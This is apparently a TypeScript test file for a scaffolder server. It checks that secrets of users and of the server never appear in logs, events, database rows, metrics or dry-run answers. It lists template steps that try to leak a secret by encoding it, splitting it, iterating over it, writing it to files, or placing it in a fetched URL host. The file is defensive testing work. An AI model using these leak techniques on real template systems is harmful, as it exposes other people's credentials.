import { getRun, listTaskEvents } from '@waymark/contracts';
import { describe, expect, it } from 'vitest';
import { databaseText } from '../../testing/database-text.ts';
import { eventually, useScaffolderServer } from '../../testing/scaffolder-server.ts';
import { formsIn } from '../../testing/secret-forms.ts';
import { templateText } from '../../testing/template-text.ts';
import { testConfig } from '../../testing/test-config.ts';

/** What the author of a template tries in order to see the secrets of whoever runs it, and those of the server. */

const SECRET = 'S3cr/t+token"of&somebody<é>';
const OF_SERVER = 'T0p/secret+of"the&server<é>';
const settings = testConfig().scaffolder;
const server = useScaffolderServer({
  config: {
    scaffolder: {
      ...settings,
      defaultEnvironment: { parameters: {}, secrets: { TOKEN: OF_SERVER } },
    },
  },
});

const say = (message: string) => ({ action: 'debug:log', input: { message } });

/** Steps by what they try, for the expression of a secret. */
const attempts: Record<string, (secret: string) => object> = {
  raw: (secret) => say(`\${{ ${secret} }}`),
  'in a text': (secret) => say(`Bearer \${{ ${secret} }}!`),
  'as JSON': (secret) => say(`\${{ ${secret} | dump }}`),
  'URL-encoded': (secret) => say(`\${{ ${secret} | urlencode }}`),
  'as markup': (secret) => say(`\${{ ${secret} | escape }}`),
  reversed: (secret) => say(`\${{ ${secret} | reverse }}`),
  'in capitals': (secret) => say(`\${{ ${secret} | upper }}`),
  'with signs between': (secret) => say(`\${{ ${secret} | list | join('.') }}`),
  'split in two': (secret) =>
    say(`\${{ ${secret} | truncate(9, true, '') }} \${{ ${secret} | replace('a', 'b') }}`),
  'a sign at a time': (secret) => ({ ...say(`\${{ ${secret}[each.value] }}`), each: '${{ range(0, 40) }}' }),
  'as items': (secret) => ({ ...say('${{ each.value }}'), each: `\${{ ${secret} | list }}` }),
  'as members': (secret) => ({ ...say('${{ each.key }} ${{ each.value }}'), each: `\${{ {a: ${secret}} }}` }),
  'as a condition': (secret) => ({ ...say('${{ secrets }}'), if: `\${{ ${secret} }}` }),
  'through JSONata': (secret) => ({
    ...{ action: 'roadiehq:utils:jsonata' },
    input: { data: { s: `\${{ ${secret} }}` }, expression: '$base64encode(s)' },
  }),
  'in an expression': (secret) => ({
    ...{ action: 'roadiehq:utils:jsonata' },
    input: { data: {}, expression: `$error("\${{ ${secret} }}")` },
  }),
  'as a file': (secret) => ({ action: 'fs:write', input: { path: 'a.txt', content: `\${{ ${secret} }}` } }),
  'as a path': (secret) => ({ action: 'fs:read', input: { path: `\${{ ${secret} }}` } }),
  'in the error of a filter': (secret) => say(`\${{ ${secret} | parseRepoUrl }}`),
  'in the error of an action': (secret) => ({
    action: 'catalog:fetch',
    input: { entityRef: `\${{ ${secret} }}` },
  }),
  'in a wrong type': (secret) => ({ action: 'fs:delete', input: { files: `\${{ ${secret} }}` } }),
  'where it is allowed': (secret) => ({
    ...{ action: 'fetch:plain' },
    input: { url: 'https://nowhere.invalid/x/y/tree/main', token: `\${{ ${secret} }}` },
  }),
  'in an address': (secret) => ({
    action: 'fetch:plain',
    input: { url: `https://\${{ ${secret} }}.example/` },
  }),
};

function templateOf(name: string, secret: string): string {
  const steps = Object.entries(attempts).map(([title, step], index) => ({
    ...{ id: `step-${index}`, name: title, if: '${{ always() }}' },
    ...step(secret),
  }));
  return templateText(name, steps);
}

/** Everything that can be read of a run and of the server. */
async function everythingSaid(taskId: string): Promise<string> {
  const [events, run, task, stream, metrics] = await Promise.all([
    server.api.call(listTaskEvents, { params: { taskId }, query: {} }),
    server.api.call(getRun, { params: { taskId } }),
    server.client.getTask(taskId),
    streamed(taskId),
    fetch(`${server.url}/metrics`).then((answer) => answer.text()),
  ]);
  expect(events.length).toBeGreaterThan(Object.keys(attempts).length);
  expect(stream).toContain('Run completed with status');
  expect(metrics).toContain('http_request_duration_seconds');
  return [events, run, task, stream, metrics].map((part) => JSON.stringify(part)).join('\n');
}

/** The stream of events up to the end of the run; the server keeps it open. */
async function streamed(taskId: string): Promise<string> {
  const gone = new AbortController();
  const url = `${server.url}/api/scaffolder/v2/tasks/${taskId}/eventstream`;
  const { body } = await fetch(url, { signal: gone.signal });
  let text = '';
  const decoder = new TextDecoder();
  for await (const chunk of body ?? []) {
    text += decoder.decode(chunk, { stream: true });
    if (text.includes('Run completed with status')) break;
  }
  gone.abort();
  return text;
}

async function ended(taskId: string): Promise<string> {
  return eventually(async () => {
    const { status } = await server.client.getTask(taskId);
    expect(status).not.toMatch(/open|processing/);
    return status;
  });
}

describe.each([
  ['of whoever runs a template', 'secrets.token', SECRET],
  ['of the server', 'environment.secrets.TOKEN', OF_SERVER],
])('a secret %s', (_, expression, secret) => {
  const name = expression.replaceAll('.', '-').toLowerCase();

  it('is in no log, no event, no row and no figure, whatever the template does with it', async () => {
    const templateRef = await server.addTemplate(name, { 'template.yaml': templateOf(name, expression) });
    const { taskId } = await server.client.scaffold({ templateRef, values: {}, secrets: { token: SECRET } });
    await ended(taskId);
    const said = await everythingSaid(taskId);
    expect(formsIn(said, secret)).toEqual([]);
    expect(formsIn(await databaseText(server.database), secret)).toEqual([]);
    expect(formsIn(server.logText(), secret)).toEqual([]);
    expect(server.logText()).not.toContain('a step failed');
    // Letter by letter, one after the other, it would be there as well.
    const letters = await server.database.pool.query<{ message: string }>(
      `SELECT e.body->>'message' AS message FROM scaffolder_event e
         JOIN scaffolder_run r ON r.id = e.run_id WHERE r.task_id = $1 ORDER BY e.id`,
      [taskId],
    );
    const short = letters.rows.filter(({ message }) => message.length === 1).map(({ message }) => message);
    expect(short.join('')).not.toContain(secret.slice(0, 6));
  });

  it('is in no answer to a dry run', async () => {
    for (const [title, step] of Object.entries(attempts)) {
      const answer = await fetch(`${server.url}/api/scaffolder/v2/dry-run`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          template: JSON.parse(
            templateText('dry', [{ id: 'step', name: title, ...step(expression) }]),
          ) as object,
          ...{ values: {}, secrets: { token: SECRET }, directoryContents: [] },
        }),
      });
      expect(formsIn(await answer.text(), secret), title).toEqual([]);
    }
    expect(formsIn(server.logText(), secret)).toEqual([]);
  });
});
